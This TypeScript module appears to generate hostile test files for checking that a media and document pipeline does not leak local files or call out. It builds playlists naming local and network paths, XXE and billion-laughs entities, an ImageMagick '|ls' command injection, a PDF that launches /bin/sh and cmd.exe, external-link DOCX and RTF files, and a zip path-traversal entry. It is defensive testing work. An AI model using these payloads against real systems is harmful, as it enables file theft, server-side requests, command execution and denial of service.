import { execFileSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { crc32 } from 'node:zlib'
import { drawn, madeArgs } from '@firsthand/media/made'

/** What hostile files try to reach: a film and a text beside them, and a web server on this machine. */
export interface Targets {
  readonly port: number
  readonly secret: string
}

/** A name for the attempt, and the file's bytes. */
export type HostileFile = readonly [name: string, bytes: Buffer]

/** A second of video in an unusual size, so that any trace of it is noticed. `moov` stands after `mdat`. */
export const CONTROL = { width: 334, height: 222 } as const
export function controlFilm(): Buffer {
  const folder = mkdtempSync(join(tmpdir(), 'control-'))
  const source = `color=red:s=${CONTROL.width}x${CONTROL.height}:d=1:r=5`
  const film = join(folder, 'control.mp4')
  execFileSync('ffmpeg', madeArgs(film, { from: [drawn(source)], options: ['-pix_fmt', 'yuv420p'] }))
  const bytes = readFileSync(film)
  rmSync(folder, { recursive: true })
  return bytes
}

/** Texts that media programs read as a list of other files, in every form of reference. */
export function playlists({ port }: Targets): readonly HostileFile[] {
  const places = {
    'in its own folder': 'control.mp4',
    absolute: '/out/control.mp4',
    'a file URL': 'file:///out/control.mp4',
    'the network': `http://127.0.0.1:${port}/control.mp4`,
    'a protocol of ffmpeg': 'concat:/out/control.mp4|/out/control.mp4',
    'a part of a file': 'subfile,,start,0,end,0,,:/out/control.mp4',
  }
  // Two kinds are tried with every target, because ffmpeg follows them most readily. The others are tried with the two
  // plainest targets.
  const isTried = (kind: string, where: string): boolean =>
    /^(ffconcat|HLS)$/.test(kind) || where === 'absolute' || where === 'the network'
  return Object.entries(places).flatMap(([where, at]) =>
    Object.entries({
      ffconcat: `ffconcat version 1.0\nfile '${at}'\nduration 1\n`,
      HLS: `#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:2\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\n${at}\n#EXT-X-ENDLIST\n`,
      'HLS key and map': `#EXTM3U\n#EXT-X-TARGETDURATION:2\n#EXT-X-KEY:METHOD=AES-128,URI="${at}"\n#EXT-X-MAP:URI="${at}"\n#EXTINF:1.0,\n${at}\n#EXT-X-ENDLIST\n`,
      M3U: `#EXTM3U\n#EXTINF:1,a\n${at}\n`,
      DASH: `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>${at}</BaseURL></Representation></AdaptationSet></Period></MPD>`,
      SMIL: `<smil><body><video src="${at}"/></body></smil>`,
      XSPF: `<?xml version="1.0"?><playlist xmlns="http://xspf.org/ns/0/"><trackList><track><location>${at}</location></track></trackList></playlist>`,
      PLS: `[playlist]\nFile1=${at}\nNumberOfEntries=1\n`,
      'subtitles of a film': `1\n00:00:00,000 --> 00:00:01,000\n{file=${at}}\n`,
    })
      .filter(([kind]) => isTried(kind, where))
      .map(([kind, text]) => [`${kind} naming ${where}`, Buffer.from(text)] as const),
  )
}

export const sessionDescription = ({ port }: Targets): HostileFile => [
  'a session description',
  Buffer.from(
    `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video ${port} RTP/AVP 96\na=rtpmap:96 H264/90000\n`,
  ),
]

/** A film whose samples are in another file (ISO 14496-12 §8.7.2, QuickTime File Format). */
export function filmElsewhere(film: Buffer, at: string): HostileFile {
  const dref = film.indexOf('dref')
  const entry = film.indexOf('url ', dref)
  const url = Buffer.concat([Buffer.alloc(4), Buffer.from('url '), Buffer.alloc(4), Buffer.from(`${at}\0`)])
  url.writeUInt32BE(url.length, 0)
  const grown = Buffer.concat([film.subarray(0, entry - 4), url, film.subarray(entry + 8)])
  const more = url.length - 12
  // Every enclosing box grows by the same number of bytes. Chunk offsets need no change, because `mdat` stands before
  // `moov`.
  for (const name of ['moov', 'trak', 'mdia', 'minf', 'dinf', 'dref']) {
    const start = film.lastIndexOf(name, dref) - 4
    grown.writeUInt32BE(film.readUInt32BE(start) + more, start)
  }
  const data = grown.indexOf('mdat')
  grown.fill(0, data + 4, grown.indexOf('moov') - 4)
  return [`a film whose samples lie at ${at.slice(0, 12)}`, grown]
}

export function drawings({ port, secret }: Targets): readonly HostileFile[] {
  const open =
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="60">'
  const background = '<rect width="80" height="60" fill="#00f"/>'
  const web = `http://127.0.0.1:${port}/x`
  const bodies: Record<string, string> = {
    'an image of the network': `<image width="80" height="60" xlink:href="${web}.png"/>`,
    'an image beside it':
      '<image width="80" height="60" xlink:href="control.png"/><image width="80" height="60" href="/out/control.png"/>',
    'an include': '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/out/control.txt" parse="text"/>',
    'a style': `<style>@import url("${web}.css"); @font-face { font-family: x; src: url("${web}.woff") } text { font-family: x }</style><text y="20">a</text>`,
    'a script': `<script>fetch("${web}")</script><script href="${web}.js"/>`,
    'a page inside': `<foreignObject width="80" height="60"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${web}"/></foreignObject>`,
    'a use of another drawing': `<use href="${web}.svg#a"/><use href="/out/control.svg#a"/>`,
    'a filter image': `<filter id="f"><feImage href="${web}.png"/></filter><rect width="80" height="60" filter="url(#f)"/>`,
  }
  const entity = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "file:///out/control.txt"><!ENTITY n SYSTEM "${web}">]>${open}${background}<text y="20">&e;&n;</text></svg>`
  const laugh = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "${secret.slice(0, 3)}${'x'.repeat(100)}">${Array.from({ length: 9 }, (_, n) => `<!ENTITY ${'bcdefghij'[n]} "${`&${'abcdefghi'[n]};`.repeat(10)}">`).join('')}]>${open}<text>&j;</text></svg>`
  return [
    ...Object.entries(bodies).map(
      ([name, body]) => [`a drawing with ${name}`, Buffer.from(`${open}${background}${body}</svg>`)] as const,
    ),
    ['a drawing with an entity', Buffer.from(entity)],
    ['a drawing of a billion words', Buffer.from(laugh)],
    [
      'a drawing of 400 megapixels',
      Buffer.from(
        `${open.replace('"80"', '"20000"').replace('"60"', '"20000"')}<rect width="20000" height="20000"/></svg>`,
      ),
    ],
    ['a drawing of 20,000 nested groups', Buffer.from(`${open}${'<g>'.repeat(20_000)}${'</g>'.repeat(20_000)}</svg>`)],
    [
      'a script of ImageMagick',
      Buffer.from(
        `push graphic-context\nviewbox 0 0 80 60\nimage over 0,0 0,0 '${web}.png'\nimage over 0,0 0,0 '/out/control.png'\nimage over 0,0 0,0 'https://127.0.0.1:${port}/|ls'\npop graphic-context\n`,
      ),
    ],
  ]
}

export function documents({ port }: Targets): readonly HostileFile[] {
  const web = `http://127.0.0.1:${port}/x`
  const body = '<w:p><w:r><w:t>harmless words</w:t></w:r></w:p>'
  const word = (document: string, relations: string): Buffer =>
    zipOf({
      '[Content_Types].xml':
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
      '_rels/.rels':
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
      'word/document.xml': document,
      'word/_rels/document.xml.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relations}</Relationships>`,
    })
  const outside = ['image', 'oleObject', 'attachedTemplate', 'hyperlink', 'subDocument']
    .map(
      (kind, n) =>
        `<Relationship Id="r${n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${web}.${kind}" TargetMode="External"/>`,
    )
    .join('')
  const open = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
  const entity = `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///out/control.txt"><!ENTITY n SYSTEM "${web}"><!ENTITY % p SYSTEM "${web}.dtd">%p;]>`
  const pdf = `%PDF-1.4
1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>/AA<</WC<</S/URI/URI(${web})>>>>>> endobj
2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj
3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/Contents 4 0 R/Resources<</XObject<</I 5 0 R/T 6 0 R>>>>/AA<</O<</S/JavaScript/JS(app.launchURL\\("${web}"\\))>>>>>> endobj
4 0 obj <</Length 18>> stream
/I Do /T Do      

endstream endobj
5 0 obj <</Type/XObject/Subtype/Image/Width 80/Height 60/ColorSpace/DeviceRGB/BitsPerComponent 8/Length 0/F(/out/control.png)/FFilter/DCTDecode>> stream

endstream endobj
6 0 obj <</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F<</FS/URL/F(${web}.pdf)>>/Page 0>>/Length 0>> stream

endstream endobj
trailer <</Root 1 0 R>>
`
  return [
    [
      'a letter with links, pictures and a template elsewhere',
      word(`<?xml version="1.0"?>${open}${body}</w:body></w:document>`, outside),
    ],
    [
      'a letter with entities',
      word(`<?xml version="1.0"?>${entity}${open}<w:p><w:r><w:t>&e;&n;</w:t></w:r></w:p></w:body></w:document>`, ''),
    ],
    ['a plain XML with entities', Buffer.from(`<?xml version="1.0"?>${entity}<a>&e;&n;</a>`)],
    ['a PDF that launches, calls and refers', Buffer.from(pdf)],
    [
      'a page of HTML',
      Buffer.from(
        `<!doctype html><img src="${web}"><script src="${web}.js"></script><link rel=stylesheet href="${web}.css">words`,
      ),
    ],
    [
      'rich text that refers',
      Buffer.from(`{\\rtf1 words {\\field{\\*\\fldinst INCLUDEPICTURE "${web}" \\\\d}}{\\*\\template ${web}}}`),
    ],
    [
      'a map in a package with links, overlays and entities',
      zipOf({
        'doc.kml': `<?xml version="1.0"?>${entity}<kml><Document><name>words &e;&n;</name><NetworkLink><Link><href>${web}.kml</href></Link></NetworkLink><GroundOverlay><Icon><href>../control.png</href></Icon></GroundOverlay></Document></kml>`,
        '../control.png': 'words',
      }),
    ],
  ]
}

/** A ZIP of uncompressed entries (APPNOTE.TXT). */
export function zipOf(files: Readonly<Record<string, string>>): Buffer {
  const locals: Buffer[] = []
  const centrals: Buffer[] = []
  let at = 0
  for (const [path, text] of Object.entries(files)) {
    const name = Buffer.from(path)
    const data = Buffer.from(text)
    const fields = Buffer.alloc(26)
    fields.writeUInt16LE(20, 0)
    fields.writeUInt32LE(crc32(data), 10)
    fields.writeUInt32LE(data.length, 14)
    fields.writeUInt32LE(data.length, 18)
    fields.writeUInt16LE(name.length, 22)
    locals.push(Buffer.from('PK\x03\x04', 'latin1'), fields, name, data)
    const tail = Buffer.alloc(14)
    tail.writeUInt32LE(at, 10)
    centrals.push(Buffer.from('PK\x01\x02\x14\x00', 'latin1'), fields, tail, name)
    at += 30 + name.length + data.length
  }
  const central = Buffer.concat(centrals)
  const end = Buffer.alloc(22)
  end.write('PK\x05\x06', 0, 'latin1')
  end.writeUInt16LE(Object.keys(files).length, 8)
  end.writeUInt16LE(Object.keys(files).length, 10)
  end.writeUInt32LE(central.length, 12)
  end.writeUInt32LE(at, 16)
  return Buffer.concat([...locals, central, end])
}
